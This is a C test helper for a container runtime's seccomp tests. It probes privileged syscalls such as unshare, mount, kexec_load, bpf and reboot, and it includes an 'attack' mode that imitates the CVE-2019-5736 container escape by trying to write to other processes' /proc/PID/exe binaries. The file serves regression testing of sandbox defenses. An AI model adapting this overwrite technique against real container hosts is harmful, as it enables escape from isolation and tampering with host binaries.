/* Syscall probe for the seccomp tests: `probe NAME...` runs each named syscall once and
 * prints `NAME=ok` or `NAME=<errno name>`. Built static by the tests (gcc -static). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *ename(int e) {
    switch (e) {
    case EPERM: return "EPERM";
    case ENOSYS: return "ENOSYS";
    case EINVAL: return "EINVAL";
    case EFAULT: return "EFAULT";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case EBADF: return "EBADF";
    case ENOTDIR: return "ENOTDIR";
    case EAFNOSUPPORT: return "EAFNOSUPPORT";
    default: return "EOTHER";
    }
}

static long run(const char *n) {
    if (!strcmp(n, "unshare_user")) return unshare(CLONE_NEWUSER);
    if (!strcmp(n, "unshare_net")) return unshare(CLONE_NEWNET);
    if (!strcmp(n, "mount")) return mount("none", "/tmp", "tmpfs", 0, NULL);
    if (!strcmp(n, "umount")) return umount2("/proc", MNT_DETACH);
    if (!strcmp(n, "add_key")) return syscall(SYS_add_key, "user", "k", "v", 1, -4 /* process keyring */);
    if (!strcmp(n, "keyctl")) return syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -4, 0);
    if (!strcmp(n, "kexec_load")) return syscall(SYS_kexec_load, 0, 0, NULL, 0);
    if (!strcmp(n, "bpf")) return syscall(SYS_bpf, 0, NULL, 0);
    if (!strcmp(n, "clone3")) return syscall(SYS_clone3, NULL, 0);
    if (!strcmp(n, "clone_newuser")) {
        long r = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
        if (r == 0) _exit(0);
        if (r > 0) waitpid(r, NULL, 0);
        return r < 0 ? -1 : 0;
    }
    if (!strcmp(n, "fork")) {
        pid_t p = fork();
        if (p == 0) _exit(0);
        if (p > 0) waitpid(p, NULL, 0);
        return p < 0 ? -1 : 0;
    }
    if (!strcmp(n, "personality_query")) return personality(0xffffffff) < 0 ? -1 : 0;
    if (!strcmp(n, "personality_bsd")) return personality(0x0006 /* PER_BSD */) < 0 ? -1 : 0;
    if (!strcmp(n, "socket_inet")) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (s >= 0) close(s);
        return s < 0 ? -1 : 0;
    }
    if (!strcmp(n, "socket_vsock")) {
        int s = socket(40 /* AF_VSOCK */, SOCK_STREAM, 0);
        if (s >= 0) close(s);
        return s < 0 ? -1 : 0;
    }
    if (!strcmp(n, "setns")) return syscall(SYS_setns, -1, 0);
    if (!strcmp(n, "reboot")) return syscall(SYS_reboot, 0, 0, 0, NULL);
    if (!strcmp(n, "chroot")) return chroot("/");
    errno = ENOENT;
    return -2;
}

/* CVE-2019-5736 style attacker: until /stop exists, try to open every other process's
 * /proc/PID/exe for writing (appending a byte when it opens), and hold an O_PATH fd on any
 * exe that is not ours to reopen it for writing later through /proc/self/fd. */
static int attack(void) {
    static int held[1024];
    static char held_target[1024][256];
    int nheld = 0;
    long rounds = 0, saw = 0, wrote = 0;
    char self[32];
    snprintf(self, sizeof self, "%d", getpid());
    while (access("/stop", F_OK) != 0) {
        rounds++;
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9' || !strcmp(e->d_name, self)) continue;
            char path[300], target[256];
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            ssize_t n = readlink(path, target, sizeof target - 1);
            target[n < 0 ? 0 : n] = 0;
            int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w >= 0) {
                if (write(w, "x", 1) == 1) wrote++;
                printf("WROTE %s\n", target);
                close(w);
            }
            if (n < 0) continue;
            if (!strcmp(target, "/bin/busybox") || !strcmp(target, "/bin/probe")) continue;
            int r = open(path, O_PATH | O_CLOEXEC);
            if (r < 0) continue;
            int dup = 0;
            for (int i = 0; i < nheld; i++) dup |= !strcmp(held_target[i], target);
            if (dup || nheld >= 1024) { close(r); continue; }
            saw++;
            printf("SAW %s\n", target);
            snprintf(held_target[nheld], sizeof held_target[nheld], "%s", target);
            held[nheld++] = r;
        }
        if (d) closedir(d);
        for (int i = 0; i < nheld; i++) {
            if (held[i] < 0) continue;
            char via[64];
            snprintf(via, sizeof via, "/proc/self/fd/%d", held[i]);
            int w = open(via, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w >= 0) {
                if (write(w, "x", 1) == 1) wrote++;
                printf("WROTE %s\n", held_target[i]);
                close(w);
                close(held[i]);
                held[i] = -1;
            }
        }
        fflush(stdout);
    }
    printf("attack rounds=%ld saw=%ld wrote=%ld\n", rounds, saw, wrote);
    fflush(stdout);
    return 0;
}

int main(int argc, char **argv) {
    if (argc > 1 && !strcmp(argv[1], "attack")) return attack();
    for (int i = 1; i < argc; i++) {
        errno = 0;
        long r = run(argv[i]);
        if (r == -2) printf("%s=unknown\n", argv[i]);
        else if (r < 0) printf("%s=%s\n", argv[i], ename(errno));
        else printf("%s=ok\n", argv[i]);
    }
    fflush(stdout);
    return 0;
}
